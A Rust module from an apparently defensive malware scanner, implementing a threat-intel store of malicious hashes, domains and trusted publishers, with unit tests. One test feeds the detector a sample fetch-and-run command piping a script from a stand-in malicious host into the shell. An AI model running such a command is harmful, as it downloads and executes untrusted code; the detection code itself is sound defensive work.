//! Threat-intel store: known-malicious hashes and domains, trusted publishers.
//!
//! The store is immutable once built. Imports produce a new store that the
//! engine swaps in, so a running scan keeps the snapshot it started with.

use crate::core::error::{Error, Result};
use crate::utils::hash::is_hex_digest;
use once_cell::sync::Lazy;
use regex::Regex;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeSet, HashSet};
use std::fs;
use std::path::Path;

static HOSTNAME: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"(?i)\b(?:[a-z0-9](?:[a-z0-9\-]{0,61}[a-z0-9])?\.)+[a-z]{2,63}\b").unwrap()
});

/// Import payload. Every field is optional; all are merged additively.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct ThreatIntelUpdate {
    /// SHA-256 or MD5 hex digests
    pub hashes: Option<Vec<String>>,
    pub domains: Option<Vec<String>>,
    pub publishers: Option<Vec<String>>,
}

/// Newly added entries per category (duplicates and invalid entries excluded).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct ImportSummary {
    pub hashes_added: usize,
    pub domains_added: usize,
    pub publishers_added: usize,
}

impl ImportSummary {
    pub fn total(&self) -> usize {
        self.hashes_added + self.domains_added + self.publishers_added
    }
}

/// In-memory threat-intel sets.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ThreatIntelStore {
    hashes: HashSet<String>,
    domains: HashSet<String>,
    publishers: HashSet<String>,
}

fn normalize_hash(hash: &str) -> Option<String> {
    let hash = hash.trim().to_lowercase();
    if is_hex_digest(&hash, 64) || is_hex_digest(&hash, 32) {
        Some(hash)
    } else {
        None
    }
}

fn normalize_domain(domain: &str) -> Option<String> {
    let domain = domain.trim().trim_matches('.').to_lowercase();
    if domain.is_empty() || domain.contains(char::is_whitespace) || domain.contains('/') {
        None
    } else {
        Some(domain)
    }
}

impl ThreatIntelStore {
    pub fn new() -> Self {
        Self::default()
    }

    /// Build a store from a single update.
    pub fn from_update(update: &ThreatIntelUpdate) -> Self {
        let mut store = Self::new();
        store.merge(update);
        store
    }

    /// Union `update` into this store.
    pub fn merge(&mut self, update: &ThreatIntelUpdate) -> ImportSummary {
        let mut summary = ImportSummary::default();

        for hash in update.hashes.iter().flatten() {
            match normalize_hash(hash) {
                Some(h) => {
                    if self.hashes.insert(h) {
                        summary.hashes_added += 1;
                    }
                }
                None => log::warn!("Ignoring malformed intel hash: {}", hash),
            }
        }
        for domain in update.domains.iter().flatten() {
            match normalize_domain(domain) {
                Some(d) => {
                    if self.domains.insert(d) {
                        summary.domains_added += 1;
                    }
                }
                None => log::warn!("Ignoring malformed intel domain: {}", domain),
            }
        }
        for publisher in update.publishers.iter().flatten() {
            let publisher = publisher.trim().to_lowercase();
            if !publisher.is_empty() && self.publishers.insert(publisher) {
                summary.publishers_added += 1;
            }
        }

        summary
    }

    /// Store with `update` merged in; `self` is left untouched.
    pub fn merged(&self, update: &ThreatIntelUpdate) -> (Self, ImportSummary) {
        let mut next = self.clone();
        let summary = next.merge(update);
        (next, summary)
    }

    pub fn is_malicious_hash(&self, hash: &str) -> bool {
        self.hashes.contains(&hash.trim().to_lowercase())
    }

    /// Whether `host` or any parent domain of it is listed.
    pub fn is_malicious_domain(&self, host: &str) -> bool {
        let host = host.trim().trim_matches('.').to_lowercase();
        let mut candidate = host.as_str();
        loop {
            if self.domains.contains(candidate) {
                return true;
            }
            match candidate.split_once('.') {
                Some((_, parent)) => candidate = parent,
                None => return false,
            }
        }
    }

    /// Listed domains referenced anywhere in `text`, in order of appearance.
    pub fn domains_in(&self, text: &str) -> Vec<String> {
        if self.domains.is_empty() {
            return Vec::new();
        }
        let mut found = Vec::new();
        for m in HOSTNAME.find_iter(text) {
            let host = m.as_str().to_lowercase();
            if self.is_malicious_domain(&host) && !found.contains(&host) {
                found.push(host);
            }
        }
        found
    }

    pub fn is_trusted_publisher(&self, publisher: &str) -> bool {
        self.publishers.contains(&publisher.trim().to_lowercase())
    }

    pub fn has_publishers(&self) -> bool {
        !self.publishers.is_empty()
    }

    pub fn hash_count(&self) -> usize {
        self.hashes.len()
    }

    pub fn domain_count(&self) -> usize {
        self.domains.len()
    }

    pub fn publisher_count(&self) -> usize {
        self.publishers.len()
    }

    pub fn is_empty(&self) -> bool {
        self.hashes.is_empty() && self.domains.is_empty() && self.publishers.is_empty()
    }

    /// Sorted export of the whole store, in import format.
    pub fn to_update(&self) -> ThreatIntelUpdate {
        let sorted = |set: &HashSet<String>| -> Vec<String> {
            set.iter().cloned().collect::<BTreeSet<_>>().into_iter().collect()
        };
        ThreatIntelUpdate {
            hashes: Some(sorted(&self.hashes)),
            domains: Some(sorted(&self.domains)),
            publishers: Some(sorted(&self.publishers)),
        }
    }
}

/// Read an intel file (same shape as [`ThreatIntelUpdate`]).
pub fn load_file(path: &Path) -> Result<ThreatIntelUpdate> {
    let content = fs::read_to_string(path).map_err(|e| Error::intel_load(path, e.to_string()))?;
    serde_json::from_str(&content).map_err(|e| Error::IntelInvalid {
        path: path.to_path_buf(),
        reason: e.to_string(),
    })
}

/// Load the store at `path`, or an empty store if the file does not exist.
pub fn load_store(path: &Path) -> Result<ThreatIntelStore> {
    if !path.exists() {
        log::debug!("No threat intel at {:?}", path);
        return Ok(ThreatIntelStore::new());
    }
    let update = load_file(path)?;
    let store = ThreatIntelStore::from_update(&update);
    log::info!(
        "Loaded threat intel: {} hashes, {} domains, {} publishers",
        store.hash_count(),
        store.domain_count(),
        store.publisher_count()
    );
    Ok(store)
}

/// Write `store` to `path` as JSON.
pub fn save_store(store: &ThreatIntelStore, path: &Path) -> Result<()> {
    if let Some(parent) = path.parent() {
        fs::create_dir_all(parent).map_err(|e| Error::file_write(parent, e))?;
    }
    let content = serde_json::to_string_pretty(&store.to_update())?;
    fs::write(path, content).map_err(|e| Error::file_write(path, e))
}

#[cfg(test)]
mod tests {
    use super::*;
    use tempfile::TempDir;

    const SHA: &str = "B94D27B9934D3E08A52E52D7DA7DABFAC484EFE37A5380EE9088F7ACE2EFCDE9";

    fn update(hashes: &[&str], domains: &[&str], publishers: &[&str]) -> ThreatIntelUpdate {
        let owned = |items: &[&str]| Some(items.iter().map(|s| s.to_string()).collect());
        ThreatIntelUpdate {
            hashes: owned(hashes),
            domains: owned(domains),
            publishers: owned(publishers),
        }
    }

    #[test]
    fn test_merge_is_additive_and_counts_new() {
        let mut store = ThreatIntelStore::new();
        let first = store.merge(&update(&[SHA], &["evil.tk"], &["Acme Corp"]));
        assert_eq!(first.total(), 3);

        let second = store.merge(&update(&[&SHA.to_lowercase()], &["EVIL.TK", "bad.example"], &[]));
        assert_eq!(second.hashes_added, 0);
        assert_eq!(second.domains_added, 1);
        assert_eq!(store.domain_count(), 2);
        assert!(store.is_trusted_publisher("acme corp"));
    }

    #[test]
    fn test_malformed_entries_skipped() {
        let mut store = ThreatIntelStore::new();
        let summary = store.merge(&update(&["nothex", "abc"], &["has space", ""], &["  "]));
        assert_eq!(summary.total(), 0);
        assert!(store.is_empty());
    }

    #[test]
    fn test_hash_lookup_is_case_insensitive() {
        let store = ThreatIntelStore::from_update(&update(&[SHA], &[], &[]));
        assert!(store.is_malicious_hash(&SHA.to_lowercase()));
        assert!(!store.is_malicious_hash("00"));
    }

    #[test]
    fn test_domain_suffix_match() {
        let store = ThreatIntelStore::from_update(&update(&[], &["evil.tk"], &[]));
        assert!(store.is_malicious_domain("evil.tk"));
        assert!(store.is_malicious_domain("cdn.payload.evil.tk"));
        assert!(!store.is_malicious_domain("notevil.tk"));
        assert!(!store.is_malicious_domain("tk"));
    }

    #[test]
    fn test_domains_in_text() {
        let store = ThreatIntelStore::from_update(&update(&[], &["evil.tk"], &[]));
        let found = store.domains_in("curl -s http://x.Evil.tk/p.sh | sh; ping google.com");
        assert_eq!(found, vec!["x.evil.tk".to_string()]);
    }

    #[test]
    fn test_merged_leaves_original() {
        let store = ThreatIntelStore::new();
        let (next, summary) = store.merged(&update(&[], &["evil.tk"], &[]));
        assert!(store.is_empty());
        assert_eq!(summary.domains_added, 1);
        assert!(next.is_malicious_domain("evil.tk"));
    }

    #[test]
    fn test_file_round_trip() {
        let dir = TempDir::new().unwrap();
        let path = dir.path().join("intel.json");
        let store = ThreatIntelStore::from_update(&update(&[SHA], &["evil.tk"], &["acme"]));
        save_store(&store, &path).unwrap();

        let loaded = load_store(&path).unwrap();
        assert_eq!(loaded, store);
    }

    #[test]
    fn test_partial_file_and_missing_file() {
        let dir = TempDir::new().unwrap();
        let path = dir.path().join("partial.json");
        fs::write(&path, r#"{"domains": ["evil.tk"]}"#).unwrap();
        let parsed = load_file(&path).unwrap();
        assert!(parsed.hashes.is_none());
        assert_eq!(parsed.domains, Some(vec!["evil.tk".to_string()]));

        let missing = load_store(&dir.path().join("none.json")).unwrap();
        assert!(missing.is_empty());
    }

    #[test]
    fn test_invalid_file() {
        let dir = TempDir::new().unwrap();
        let path = dir.path().join("bad.json");
        fs::write(&path, "{not json").unwrap();
        assert!(matches!(load_file(&path), Err(Error::IntelInvalid { .. })));

        let missing = dir.path().join("missing.json");
        assert!(matches!(load_file(&missing), Err(Error::IntelLoad { .. })));
    }
}
